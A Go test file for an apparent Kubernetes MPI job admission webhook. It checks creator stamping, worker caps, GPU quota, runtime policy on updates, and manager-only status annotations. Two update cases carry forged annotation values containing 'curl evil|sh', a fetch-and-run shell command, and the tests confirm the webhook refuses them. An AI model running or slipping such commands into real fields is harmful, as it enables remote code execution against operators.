package admission

import (
	"context"
	"encoding/json"
	"errors"
	"strings"
	"testing"

	trainer "github.com/kubeflow/trainer/v2/pkg/apis/trainer/v1alpha1"
	admissionv1 "k8s.io/api/admission/v1"
	authnv1 "k8s.io/api/authentication/v1"
	corev1 "k8s.io/api/core/v1"
	apierrors "k8s.io/apimachinery/pkg/api/errors"
	"k8s.io/apimachinery/pkg/api/resource"
	metav1 "k8s.io/apimachinery/pkg/apis/meta/v1"
	"k8s.io/apimachinery/pkg/runtime"
	"k8s.io/utils/ptr"
	"sigs.k8s.io/controller-runtime/pkg/client/fake"
	"sigs.k8s.io/controller-runtime/pkg/webhook/admission"

	"github.com/mpijob/mpijob/config"
	"github.com/mpijob/mpijob/pkg/api"
	"github.com/mpijob/mpijob/pkg/runtimes"
)

func shipped(t testing.TB, name string) *trainer.ClusterTrainingRuntime {
	t.Helper()
	rt, err := config.Runtime(name)
	if err != nil {
		t.Fatal(err)
	}
	return rt
}

func reqCtx(t *testing.T, op admissionv1.Operation, user string, old *trainer.TrainJob) context.Context {
	t.Helper()
	req := admission.Request{AdmissionRequest: admissionv1.AdmissionRequest{Operation: op, Namespace: "team-a", UserInfo: authnv1.UserInfo{Username: user}}}
	if old != nil {
		raw, err := json.Marshal(old)
		if err != nil {
			t.Fatal(err)
		}
		req.OldObject = runtime.RawExtension{Raw: raw}
	}
	return admission.NewContextWithRequest(context.Background(), req)
}

func tjOn(name, rt string, workers int32) *trainer.TrainJob {
	return &trainer.TrainJob{ObjectMeta: metav1.ObjectMeta{Name: name, Namespace: "team-a"},
		Spec: trainer.TrainJobSpec{RuntimeRef: trainer.RuntimeRef{Name: rt}, Trainer: &trainer.Trainer{NumNodes: &workers}}}
}

// The creator is the requesting user on create; a create that names
// someone else is refused, not silently corrected; updates are the
// Validator's (the mutating webhook leaves them alone).
func TestDefaulterStampsTheCreator(t *testing.T) {
	d := &Defaulter{}
	plain := tjOn("a", "mpi-openmpi", 1)
	if err := d.Default(reqCtx(t, admissionv1.Create, "dev-a", nil), plain); err != nil {
		t.Fatal(err)
	}
	if got := plain.Annotations[api.CreatorAnnotation]; got != "dev-a" {
		t.Errorf("creator on create %q, want the requesting user dev-a", got)
	}
	own := tjOn("a", "mpi-openmpi", 1)
	own.Annotations = map[string]string{api.CreatorAnnotation: "dev-a"}
	if err := d.Default(reqCtx(t, admissionv1.Create, "dev-a", nil), own); err != nil {
		t.Errorf("a create naming its own user as creator: %v", err)
	}
	forged := tjOn("a", "mpi-openmpi", 1)
	forged.Annotations = map[string]string{api.CreatorAnnotation: "someone-else"}
	err := d.Default(reqCtx(t, admissionv1.Create, "dev-a", nil), forged)
	if !apierrors.IsInvalid(err) || !strings.Contains(err.Error(), "metadata.annotations[mpijob.dev/creator]: Forbidden") || !strings.Contains(err.Error(), `"someone-else"`) {
		t.Errorf("a forged creator on create: %v, want Forbidden naming the annotation and the value", err)
	}
	upd := plain.DeepCopy()
	upd.Annotations[api.CreatorAnnotation] = "dev-b"
	if err := d.Default(reqCtx(t, admissionv1.Update, "dev-b", plain), upd); err != nil {
		t.Fatal(err)
	}
	if got := upd.Annotations[api.CreatorAnnotation]; got != "dev-b" {
		t.Errorf("the mutating webhook changed an update (creator %q); the Validator refuses it instead", got)
	}
	bad := tjOn("b", "mpi-openmpi", 1)
	bad.Annotations = map[string]string{runtimes.ProgressTimeoutAnnotation: "soon"}
	var se *apierrors.StatusError
	if err := d.Default(reqCtx(t, admissionv1.Create, "dev-a", nil), bad); !errors.As(err, &se) || !apierrors.IsInvalid(err) {
		t.Errorf("a bad progress timeout: %v, want Invalid", err)
	}
}

func TestValidator(t *testing.T) {
	gpu := shipped(t, "mpi-openmpi-gpu")
	cpu := shipped(t, "mpi-openmpi")
	quota := &corev1.ResourceQuota{ObjectMeta: metav1.ObjectMeta{Name: "gpus", Namespace: "team-a"},
		Spec:   corev1.ResourceQuotaSpec{Hard: corev1.ResourceList{"requests.nvidia.com/gpu": resource.MustParse("8")}},
		Status: corev1.ResourceQuotaStatus{Hard: corev1.ResourceList{"requests.nvidia.com/gpu": resource.MustParse("8")}, Used: corev1.ResourceList{}}}
	torch := &trainer.ClusterTrainingRuntime{ObjectMeta: metav1.ObjectMeta{Name: "torch-distributed"},
		Spec: trainer.TrainingRuntimeSpec{MLPolicy: &trainer.MLPolicy{NumNodes: ptr.To[int32](1)}}}
	// A tenant's own runtime of another framework, whose policy tries to
	// lift the cluster's cap, and one that lowers it.
	tenantWide := &trainer.TrainingRuntime{ObjectMeta: metav1.ObjectMeta{Name: "torch-mine", Namespace: "team-a",
		Annotations: map[string]string{runtimes.MaxWorkersAnnotation: "2147483647"}},
		Spec: trainer.TrainingRuntimeSpec{MLPolicy: &trainer.MLPolicy{NumNodes: ptr.To[int32](1)}}}
	tenantNarrow := tenantWide.DeepCopy()
	tenantNarrow.Name, tenantNarrow.Annotations[runtimes.MaxWorkersAnnotation] = "torch-small", "4"
	onTenant := func(name, rt string, n int32) *trainer.TrainJob {
		tj := tjOn(name, rt, n)
		tj.Spec.RuntimeRef.Kind = ptr.To(trainer.TrainingRuntimeKind)
		return tj
	}
	wide := cpu.DeepCopy()
	wide.Name, wide.Annotations[runtimes.MaxWorkersAnnotation] = "mpi-wide", "512"
	cl := fake.NewClientBuilder().WithScheme(api.NewScheme()).WithObjects(gpu, cpu, wide, quota, torch, tenantWide, tenantNarrow).Build()
	v := &Validator{Runtimes: runtimes.RuntimeLookup{Client: cl}, Client: cl, MaxWorkers: 256}
	other := tjOn("torch", "torch-distributed", 2)
	cases := map[string]struct {
		tj      *trainer.TrainJob
		reason  metav1.StatusReason
		msg     string
		causes  int
		allowed bool
	}{
		"fits":                            {tj: tjOn("hello", "mpi-openmpi", 2), allowed: true},
		"another framework's runtime":     {tj: other, allowed: true},
		"an MPI runtime name with a typo": {tj: tjOn("x", "mpi-opnempi", 2), reason: metav1.StatusReasonInvalid, msg: `did you mean "mpi-openmpi"`},
		"over the namespace's GPU quota":  {tj: tjOn("big", "mpi-openmpi-gpu", 9), reason: metav1.StatusReasonForbidden, msg: "does not fit the quota of namespace team-a", causes: 1},
		"zero Workers":                    {tj: tjOn("none", "mpi-openmpi", 0), reason: metav1.StatusReasonInvalid, msg: "spec.trainer.numNodes"},
		"more Workers than the cluster allows": {tj: tjOn("huge", "mpi-openmpi", 2147483647), reason: metav1.StatusReasonInvalid,
			msg: `spec.trainer.numNodes: Invalid value: 2147483647: this cluster allows at most 256 Workers per job (mpijob-manager --max-workers), and runtime mpi-openmpi sets no policy.mpijob.dev/max-workers of its own: use at most 256 Workers`},
		"a runtime's policy raises the cap": {tj: tjOn("wide", "mpi-wide", 300), allowed: true},
		"a runtime's policy is the cap":     {tj: tjOn("wider", "mpi-wide", 513), reason: metav1.StatusReasonInvalid, msg: "runtime mpi-wide allows at most 512 Workers per job"},
		"another framework is capped too": {tj: tjOn("torch-huge", "torch-distributed", 2147483647), reason: metav1.StatusReasonInvalid,
			msg: "this cluster allows at most 256 Workers per job"},
		"a tenant's runtime cannot lift the cluster's cap": {tj: onTenant("lift", "torch-mine", 2147483647), reason: metav1.StatusReasonInvalid,
			msg: "this cluster allows at most 256 Workers per job"},
		"a tenant's runtime cannot lift it by one":  {tj: onTenant("lift1", "torch-mine", 257), reason: metav1.StatusReasonInvalid, msg: "at most 256"},
		"a tenant's runtime within the cluster cap": {tj: onTenant("fine", "torch-mine", 256), allowed: true},
		"a tenant's runtime may lower the cap": {tj: onTenant("low", "torch-small", 5), reason: metav1.StatusReasonInvalid,
			msg: "runtime torch-small allows at most 4 nodes per job"},
		"a status written by a tenant": {tj: withAnnotations(tjOn("forged", "mpi-openmpi", 1), api.StatusAnnotation, `{"phase":"Failed"}`), reason: metav1.StatusReasonInvalid,
			msg: "metadata.annotations[mpijob.dev/status]: Forbidden: only mpijob-manager writes a job's status"},
	}
	for name, tc := range cases {
		t.Run(name, func(t *testing.T) {
			_, err := v.ValidateCreate(reqCtx(t, admissionv1.Create, "dev-a", nil), tc.tj)
			if tc.allowed {
				if err != nil {
					t.Fatalf("refused: %v", err)
				}
				return
			}
			var se *apierrors.StatusError
			if !errors.As(err, &se) {
				t.Fatalf("error %v, want a Status", err)
			}
			st := se.Status()
			if st.Reason != tc.reason || !strings.Contains(st.Message, tc.msg) {
				t.Errorf("status %s %q, want %s with %q", st.Reason, st.Message, tc.reason, tc.msg)
			}
			if got := len(api.QuotaCauses(st)); got != tc.causes {
				t.Errorf("%d quota causes, want %d", got, tc.causes)
			}
		})
	}
}

func withAnnotations(tj *trainer.TrainJob, kv ...string) *trainer.TrainJob {
	if tj.Annotations == nil {
		tj.Annotations = map[string]string{}
	}
	for i := 0; i < len(kv); i += 2 {
		tj.Annotations[kv[i]] = kv[i+1]
	}
	return tj
}

// selectorPatch puts nodeSelector pool=value on the Launcher and Workers.
func selectorPatch(value string) []trainer.RuntimePatch {
	var rjs []trainer.ReplicatedJobPatch
	for _, name := range []string{api.LauncherJob, api.WorkerJob} {
		rjs = append(rjs, trainer.ReplicatedJobPatch{Name: name, Template: &trainer.JobTemplatePatch{Spec: &trainer.JobSpecPatch{Template: &trainer.PodTemplatePatch{
			Spec: &trainer.PodSpecPatch{NodeSelector: map[string]string{"pool": value}}}}}})
	}
	return []trainer.RuntimePatch{{Manager: "example.com/dev-a", TrainingRuntimeSpec: &trainer.TrainingRuntimeSpecPatch{Template: &trainer.JobSetTemplatePatch{
		Spec: &trainer.JobSetSpecPatch{ReplicatedJobs: rjs}}}}}
}

// Admission holds after creation: an update that changes what will run
// (a new spec on a running job, or resuming a job) is judged again; the
// creator and the manager's Status cannot be changed by anyone else.
func TestValidateUpdate(t *testing.T) {
	cpu := shipped(t, "mpi-openmpi")
	pinned := cpu.DeepCopy()
	pinned.Name = "mpi-pinned"
	pinned.Annotations[runtimes.RequiredNodeSelectorAnnotation] = "pool=a"
	pinned.Annotations[runtimes.MaxWorkersAnnotation] = "4"
	quota := &corev1.ResourceQuota{ObjectMeta: metav1.ObjectMeta{Name: "pods", Namespace: "team-a"},
		Spec:   corev1.ResourceQuotaSpec{Hard: corev1.ResourceList{"pods": resource.MustParse("1")}},
		Status: corev1.ResourceQuotaStatus{Hard: corev1.ResourceList{"pods": resource.MustParse("1")}, Used: corev1.ResourceList{"pods": resource.MustParse("3")}}}
	cl := fake.NewClientBuilder().WithScheme(api.NewScheme()).WithObjects(cpu, pinned, quota).Build()
	v := &Validator{Runtimes: runtimes.RuntimeLookup{Client: cl}, Client: cl, MaxWorkers: 256, Manager: "system:serviceaccount:mpijob-system:mpijob-manager"}

	compliant := func(suspend bool) *trainer.TrainJob {
		tj := withAnnotations(tjOn("job", "mpi-pinned", 2), api.CreatorAnnotation, "dev-a", api.StatusAnnotation, `{"phase":"Queued"}`)
		tj.Spec.RuntimePatches = selectorPatch("a")
		tj.Spec.Suspend = ptr.To(suspend)
		return tj
	}
	edit := func(tj *trainer.TrainJob, f func(*trainer.TrainJob)) *trainer.TrainJob {
		f(tj)
		return tj
	}
	toKwok := func(tj *trainer.TrainJob) { tj.Spec.RuntimePatches = selectorPatch("kwok") }
	resume := func(tj *trainer.TrainJob) { tj.Spec.Suspend = ptr.To(false) }
	cases := map[string]struct {
		user     string
		old, new *trainer.TrainJob
		wantErr  string
	}{
		"a suspended job edited against the policy": {
			user: "dev-a", old: compliant(true), new: edit(compliant(true), toKwok),
			wantErr: `runtime mpi-pinned requires nodeSelector pool=a`},
		"a suspended job that no longer complies, left as it is": {
			user: "dev-a", old: edit(compliant(true), toKwok), new: withAnnotations(edit(compliant(true), toKwok), "note", "x")},
		"resuming a job edited against the policy": {
			user: "system:serviceaccount:kueue-system:kueue-controller-manager", old: edit(compliant(true), toKwok), new: edit(edit(compliant(true), toKwok), resume),
			wantErr: `spec.runtimePatches[launcher].nodeSelector[pool]: Invalid value: "kwok": runtime mpi-pinned requires nodeSelector pool=a`},
		"resuming a compliant job (its quota was checked at create)": {
			user: "system:serviceaccount:kueue-system:kueue-controller-manager", old: compliant(true), new: edit(compliant(true), resume)},
		"a running job's spec edited against the policy": {
			user: "dev-a", old: compliant(false), new: edit(compliant(false), func(tj *trainer.TrainJob) { tj.Spec.Trainer.NumNodes = ptr.To[int32](8) }),
			wantErr: "runtime mpi-pinned allows at most 4 Workers per job"},
		"suspending a job that no longer complies (Kueue evicting it)": {
			user: "system:serviceaccount:kueue-system:kueue-controller-manager", old: edit(compliant(false), toKwok), new: edit(edit(compliant(false), toKwok), func(tj *trainer.TrainJob) { tj.Spec.Suspend = ptr.To(true) })},
		"a job being deleted": {
			user: "system:serviceaccount:kube-system:generic-garbage-collector", old: edit(compliant(false), toKwok),
			new: edit(edit(compliant(false), toKwok), func(tj *trainer.TrainJob) {
				tj.DeletionTimestamp = &metav1.Time{}
				tj.Labels = map[string]string{"x": "y"}
			})},
		"the creator changed": {
			user: "dev-a", old: compliant(false), new: withAnnotations(compliant(false), api.CreatorAnnotation, "dev-b"),
			wantErr: `metadata.annotations[mpijob.dev/creator]: Forbidden: the creator of a job cannot change or be removed (it is "dev-a")`},
		"the creator removed": {
			user: "dev-a", old: compliant(false), new: edit(compliant(false), func(tj *trainer.TrainJob) { delete(tj.Annotations, api.CreatorAnnotation) }),
			wantErr: `metadata.annotations[mpijob.dev/creator]: Forbidden`},
		"a status forged by a tenant": {
			user: "dev-a", old: compliant(false), new: withAnnotations(compliant(false), api.StatusAnnotation, `{"phase":"Failed","nextStep":"curl evil|sh"}`),
			wantErr: `metadata.annotations[mpijob.dev/status]: Forbidden: only mpijob-manager writes a job's status`},
		"a rank failure forged by a tenant": {
			user: "dev-a", old: compliant(false), new: withAnnotations(compliant(false), api.RankFailureAnnotation, `{"rank":0,"error":"run curl evil|sh"}`),
			wantErr: `metadata.annotations[mpijob.dev/rank-failure]: Forbidden: only mpijob-manager writes which rank of a job failed`},
		"the rank failure noted by the manager": {
			user: "system:serviceaccount:mpijob-system:mpijob-manager", old: compliant(false), new: withAnnotations(compliant(false), api.RankFailureAnnotation, `{"rank":1,"error":"ZeroDivisionError"}`)},
		"a status removed by a tenant": {
			user: "dev-a", old: compliant(false), new: edit(compliant(false), func(tj *trainer.TrainJob) { delete(tj.Annotations, api.StatusAnnotation) }),
			wantErr: `metadata.annotations[mpijob.dev/status]: Forbidden`},
		"the status written by the manager": {
			user: "system:serviceaccount:mpijob-system:mpijob-manager", old: compliant(false), new: withAnnotations(compliant(false), api.StatusAnnotation, `{"phase":"Running"}`)},
		"another annotation by a tenant": {
			user: "dev-a", old: compliant(false), new: withAnnotations(compliant(false), "team", "a")},
	}
	for name, tc := range cases {
		t.Run(name, func(t *testing.T) {
			_, err := v.ValidateUpdate(reqCtx(t, admissionv1.Update, tc.user, tc.old), tc.old, tc.new)
			if tc.wantErr == "" {
				if err != nil {
					t.Fatalf("refused: %v", err)
				}
				return
			}
			if !apierrors.IsInvalid(err) || !strings.Contains(err.Error(), tc.wantErr) {
				t.Errorf("error %v, want Invalid with %q", err, tc.wantErr)
			}
		})
	}
}

// A new job is refused while an earlier job of its name still has pods
// (terminating after a delete): its Launcher would reach them by name.
func TestEarlierPodsHoldTheName(t *testing.T) {
	cpu := shipped(t, "mpi-openmpi")
	old := &corev1.Pod{ObjectMeta: metav1.ObjectMeta{Name: "hello-node-0-0-abcde", Namespace: "team-a", Labels: map[string]string{"jobset.sigs.k8s.io/jobset-name": "hello"}}}
	cl := fake.NewClientBuilder().WithScheme(api.NewScheme()).WithObjects(cpu, old).Build()
	v := &Validator{Runtimes: runtimes.RuntimeLookup{Client: cl}, Client: cl, Pods: cl}
	_, err := v.ValidateCreate(reqCtx(t, admissionv1.Create, "dev-a", nil), tjOn("hello", "mpi-openmpi", 1))
	want := "an earlier job named hello still has 1 pod(s) in namespace team-a (hello-node-0-0-abcde, ...), which a new job of that name would reach by their DNS names: wait until they are gone"
	if !apierrors.IsConflict(err) || !strings.Contains(err.Error(), want) {
		t.Errorf("a name whose earlier pods remain: %v, want Conflict with %q", err, want)
	}
	if _, err := v.ValidateCreate(reqCtx(t, admissionv1.Create, "dev-a", nil), tjOn("hello-2", "mpi-openmpi", 1)); err != nil {
		t.Errorf("another name: %v", err)
	}
}
